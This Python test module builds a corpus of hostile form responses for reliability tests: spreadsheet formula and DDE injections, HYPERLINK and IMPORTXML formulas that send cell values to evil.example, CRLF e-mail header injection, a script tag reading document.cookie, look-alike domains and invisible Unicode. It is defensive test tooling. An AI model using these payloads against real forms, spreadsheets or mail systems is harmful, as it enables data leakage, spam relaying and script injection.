"""Hostile form rows for reliability tests: injections, control characters, odd scripts and sizes.

Every payload goes into every answer of an otherwise valid response, so each one reaches both
paths: a row that stays valid carries the payload into Beoordeling and a receipt, a row it makes
invalid carries it into Te corrigeren and a correction request. A few rows aim at one answer
(e-mail header injection, look-alike domains) and a few are empty or whitespace only.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import dataclass

from samen.testing.forms import HEADER_BY_SLUG, make_response

LONG_CHARS = 50_000
# Characters Unicode defines as invisible or direction-changing: they hide or reorder text.
ZERO_WIDTH = "\u200b\u200c\u200d\u2060\ufeff"
BIDI = "\u202a\u202b\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f"
CONTROL = "".join(map(chr, range(0x20))) + "\x7f\x85\u2028\u2029"


@dataclass(frozen=True)
class HostileRow:
    """One form response (header -> text) and what it tries."""

    label: str
    answers: dict[str, str]
    empty: bool = False


def _long(value: str) -> str:
    text = (value + " ") * (LONG_CHARS // (len(value) + 1) + 1)
    return text[:LONG_CHARS]


Make = Callable[[str], str]
# (label, ways to make the answer from the valid one). Every payload goes into every answer; a
# payload with several ways takes them in turn, answer by answer.
PAYLOADS: tuple[tuple[str, tuple[Make, ...]], ...] = (
    ("formula + - @", (lambda v: "+cmd|' /C calc'!A0", lambda v: "-2+3+cmd|' /C calc'!A0",
                       lambda v: "@SUM(1+1)*cmd|' /C calc'!A0")),
    ("HYPERLINK, IMPORTXML, DDE", (
        lambda v: '=HYPERLINK("http://evil.example/?leak="&A1;"Klik hier")',
        lambda v: '=IMPORTXML(CONCAT("http://evil.example/?v=";B2);"//a")',
        lambda v: "=cmd|' /C calc'!A0")),
    ("formula prefix on the valid answer", (lambda v: "=" + v, lambda v: "@" + v)),
    ("CRLF inside", (lambda v: v[:3] + "\r\nBcc: evil@example.org\r\n" + v[3:],)),
    ("control characters and NUL", (lambda v: v[:2] + CONTROL + v[2:],)),
    ("HTML and script", (lambda v: f"<script>alert(document.cookie)</script><b>{v}</b>"
                                   "<img src=x onerror=alert(1)>",)),
    ("50,000 characters", (_long,)),
    ("emoji", (lambda v: f"🏘️👩‍👩‍👧‍👦 {v} 🎉🇳🇱",)),
    ("right-to-left and bidi override", (lambda v: f"\u202e{v}\u202c مبادرة الحي שכונה {BIDI}",)),
    ("zero-width characters", (lambda v: ZERO_WIDTH.join(v[:8]) + v[8:] + ZERO_WIDTH,)),
    ("number", (lambda v: "1234567890", lambda v: "-0,5", lambda v: "1e308")),
    ("empty or whitespace only", (lambda v: "", lambda v: " \t\u00a0\u3000 ")),
)

_EMAIL_FIELDS = ("email", "initiative_email", "municipality_email")
# (label, address) put into each e-mail answer.
ADDRESSES: tuple[tuple[str, str], ...] = (
    ("CRLF Bcc", "x@example.org\r\nBcc: evil@example.org"),
    ("LF Cc", "x@example.org\nCc: evil@example.org"),
    ("two addresses", "x@example.org, evil@example.org"),
    ("display name", "Evil <evil@example.org>"),
    ("very long", "a" * 64 + "@" + ".".join(["b" * 63] * 4) + ".org"),
    ("longest usable (254)", "c" * 64 + "@" + ".".join(["d" * 60, "d" * 60, "d" * 55]) + ".example.org"),
    ("look-alike domain (Cyrillic a)", "x@ex\u0430mple.org"),
    ("look-alike domain (all Cyrillic)", "x@\u0435\u0445\u0430m\u0440l\u0435.org"),
    ("punycode domain", "x@xn--exmple-cua.org"),
    ("encoded word", "=?utf-8?q?evil?=@example.org"),
)
# (label, field, answer): names that would break a display name in a To header.
NAMES: tuple[tuple[str, str, str], ...] = (
    ("name CRLF Bcc", "initiative_contact", "Jan\r\nBcc: evil@example.org"),
    ("name encoded word", "initiative_contact", "=?utf-8?b?RXZpbA==?= <evil@example.org>"),
    ("name with quotes and angle", "municipality_contact", '"Ambtenaar" <evil@example.org>'),
    ("name with NUL", "municipality_contact", "Piet\x00\r\nSubject: gewonnen"),
    # NFKD turns U+FDFA into 18 characters: the application key grows 18-fold.
    ("expanding initiative name", "initiative", "\ufdfa" * 150),
)
EMPTY_ROWS: tuple[tuple[str, str], ...] = (
    ("empty row", ""),
    ("spaces row", "   "),
    ("tabs and newlines row", "\t\r\n \n"),
    ("no-break and ideographic spaces row", "\u00a0\u3000\u2007"),
)


def hostile_rows() -> list[HostileRow]:
    """Return the corpus: every payload in every answer, hostile addresses and names, empty rows."""
    rows: list[HostileRow] = []

    def add(label: str, **answers: str) -> None:
        n = len(rows) + 1
        rows.append(HostileRow(label, make_response(n, **answers)))

    for label, makes in PAYLOADS:
        for i, field in enumerate(HEADER_BY_SLUG):
            valid = make_response(len(rows) + 1)[HEADER_BY_SLUG[field]]
            add(f"{label} in {field}", **{field: makes[i % len(makes)](valid)})
    for label, address in ADDRESSES:
        for field in _EMAIL_FIELDS:
            add(f"{label} address in {field}", **{field: address})
    for label, field, name in NAMES:
        add(label, **{field: name})
    # Empty rows sit between others: a trailing empty row is not read at all.
    for i, (label, blank) in enumerate(EMPTY_ROWS):
        at = (i + 1) * len(rows) // (len(EMPTY_ROWS) + 1)
        rows.insert(at, HostileRow(label, dict.fromkeys(HEADER_BY_SLUG.values(), blank), empty=True))
    return rows
